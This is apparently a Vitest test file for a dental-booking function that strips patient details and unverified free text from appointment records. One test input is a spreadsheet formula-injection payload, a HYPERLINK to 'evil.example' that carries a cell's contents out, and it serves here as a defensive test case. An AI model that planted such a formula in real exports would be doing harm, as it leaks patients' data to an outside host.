import { describe, expect, it } from 'vitest';
import { mirrorNames, withoutPatient } from './patient.ts';

const names = mirrorNames({
  dentists: [{ doctor_name: 'Dr. O’Neil' }],
  treatments: [{ treatment_name: 'Scaling' }],
});

describe('fields without patient data', () => {
  it('lack name, phone, address and note, and keep the rest', () => {
    const shown = withoutPatient(
      {
        ref: 'CS-7K3Q9F',
        patient_name: 'Ann Lee',
        patient_phone: '01712345678',
        address: '3 Some Lane',
        note: 'ill',
        doctor: 'dr.  o’neil',
        doctor_id: 3,
        treatment: 'Scaling',
        appointment_date: '2026-03-09',
        appointment_time: '10:30',
      },
      names,
    );

    expect(shown).toEqual({
      ref: 'CS-7K3Q9F',
      doctor: 'dr.  o’neil',
      doctor_id: 3,
      treatment: 'Scaling',
      appointment_date: '2026-03-09',
      appointment_time: '10:30',
    });
  });

  it('do not show what a visitor typed into the wrong field, whatever number is beside it', () => {
    const shown = withoutPatient(
      {
        doctor: '@Ann Lee, gums bleed',
        doctor_id: 1,
        treatment: '=HYPERLINK("http://evil.example/?x="&A2)',
        treatment_id: 1,
        appointment_date: '0171-12-34',
        appointment_time: 'ask Ann',
        submission_id: '=01712345678',
      },
      names,
    );

    expect(shown).toEqual({
      doctor: null,
      doctor_id: 1,
      treatment: null,
      treatment_id: 1,
      appointment_date: null,
      appointment_time: null,
      submission_id: null,
    });
  });

  it('show no dentist’s name that was not compared with the mirror', () => {
    expect(withoutPatient({ doctor: 'Dr. O’Neil', doctor_id: 3 })).toEqual({ doctor: null, doctor_id: 3 });
  });

  it('do not mistake a treatment’s name for a dentist’s', () => {
    expect(withoutPatient({ doctor: 'Scaling' }, names)).toEqual({ doctor: null });
  });
});
